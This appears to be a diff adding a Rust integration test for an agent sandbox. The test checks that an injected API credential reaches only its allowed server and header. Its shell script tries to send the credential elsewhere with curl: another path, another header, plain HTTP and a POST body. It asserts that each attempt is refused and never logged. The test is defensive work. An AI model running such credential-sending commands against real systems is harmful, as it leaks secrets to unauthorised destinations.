@@ -688,7 +688,11 @@ fn https_origin(addr: &'static str) -> (Arc<AtomicUsize>, String) {
                         .unwrap_or("")
                         .to_string();
                     let path = line.split(' ').nth(1).unwrap_or("?").to_string();
-                    let body = format!("hello tls path={path}");
+                    let key = String::from_utf8_lossy(&head)
+                        .lines()
+                        .find_map(|l| l.strip_prefix("x-api-key: ").map(str::to_string))
+                        .unwrap_or_default();
+                    let body = format!("hello tls path={path} key={key}");
                     let resp = format!(
                         "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                         body.len()
@@ -756,6 +760,96 @@ fn inspected_tls_is_opened_and_each_request_decided_and_recorded() {
         );
         let start = recs.iter().find(|r| r["kind"] == "session.start").unwrap();
         assert_eq!(start["detail"]["network"]["inspect"], true, "{start}");
+    }) else {
+        return;
+    };
+}
+
+#[test]
+fn escape_via_a_credential_the_agent_was_given() {
+    // `[[credentials]]`: the secret is in `ward run`'s environment; the agent's variable holds
+    // a placeholder of the secret's shape. The secret reaches the named server in the named
+    // header only; the placeholder anywhere else (another path, another header, plain HTTP,
+    // the variable the secret came from) is refused or empty, and no record holds the secret.
+    let Some(()) = with_servers_at(&["44.1.1.1:80"], |hits| {
+        let (tls_hits, origin_ca) = https_origin("127.0.0.1:8443");
+        let e = Env::new();
+        std::fs::write(e.p("origin-ca.pem"), &origin_ca).unwrap();
+        let secret = "sk-test-Zq8Xc2Vb7Nm4Lk1Jh6Gf3Ds9Ap0Oi5UyTt";
+        let manifest = "[[files]]\npath = \"PROJ\"\nmode = \"direct\"\n[network]\n\
+                        allow = [\"https://localhost:8443\", \"http://44.1.1.1\"]\n\
+                        inspect = true\nca_file = \"origin-ca.pem\"\n\
+                        [[credentials]]\nname = \"api\"\nsecret = \"env:WARD_TEST_SECRET\"\n\
+                        env = \"API_KEY\"\nto = \"https://localhost:8443/v1/\"\n\
+                        header = \"x-api-key\"\n";
+        let m = e.p("ward.toml");
+        std::fs::write(
+            &m,
+            manifest.replace("PROJ", &e.p("proj").display().to_string()),
+        )
+        .unwrap();
+        let script = "echo \"held: $API_KEY\"; echo \"source: [$WARD_TEST_SECRET]\"; \
+            curl -sS -m 10 -H \"x-api-key: $API_KEY\" https://localhost:8443/v1/messages; echo; \
+            curl -s -o /dev/null -w 'path %{http_code}\\n' -H \"x-api-key: $API_KEY\" https://localhost:8443/v2/x; \
+            curl -s -o /dev/null -w 'header %{http_code}\\n' -H \"x-other: $API_KEY\" https://localhost:8443/v1/x; \
+            curl -s -o /dev/null -w 'plain %{http_code}\\n' -H \"x-api-key: $API_KEY\" http://44.1.1.1/x; \
+            curl -s -o /dev/null -w 'body %{http_code}\\n' -d \"k=$API_KEY\" http://44.1.1.1/x";
+        let o = e
+            .command(&["run", "-m", m.to_str().unwrap()])
+            .env("WARD_TEST_SECRET", secret)
+            .args(["--", "/bin/sh", "-c", script])
+            .output()
+            .unwrap();
+        let t = text(&o);
+        let agent = String::from_utf8_lossy(&o.stdout);
+        let held = agent
+            .lines()
+            .find_map(|l| l.strip_prefix("held: "))
+            .unwrap_or_default()
+            .to_string();
+        assert!(
+            held.starts_with("sk-test-") && held.len() == secret.len(),
+            "{t}"
+        );
+        assert_ne!(held, secret);
+        assert!(
+            agent.contains("source: []"),
+            "the secret's own variable reached the agent: {t}"
+        );
+        assert!(
+            agent.contains(&format!("hello tls path=/v1/messages key={secret}")),
+            "the server did not get the secret: {t}"
+        );
+        for line in ["path 403", "header 403", "plain 403", "body 403"] {
+            assert!(agent.contains(line), "{line}: {t}");
+        }
+        assert!(
+            !agent.replace(&format!("key={secret}"), "").contains(secret),
+            "{t}"
+        );
+        assert_eq!(tls_hits.load(Ordering::SeqCst), 1, "{t}");
+        assert_eq!(hits[0].load(Ordering::SeqCst), 0, "{t}");
+        e.assert_recorded();
+        let recs = e.records();
+        assert!(
+            !recs.iter().any(|r| r.to_string().contains(secret)),
+            "a record holds the secret"
+        );
+        assert!(
+            recs.iter()
+                .any(|r| r["kind"] == "net.request" && r["detail"]["credentials"][0] == "api"),
+            "{recs:?}"
+        );
+        let denied = recs
+            .iter()
+            .filter(|r| {
+                r["decision"]["result"] == "deny"
+                    && r["decision"]["by"]
+                        .as_str()
+                        .is_some_and(|b| b.contains("credentials"))
+            })
+            .count();
+        assert_eq!(denied, 4, "{recs:?}");
     }) else {
         return;
     };
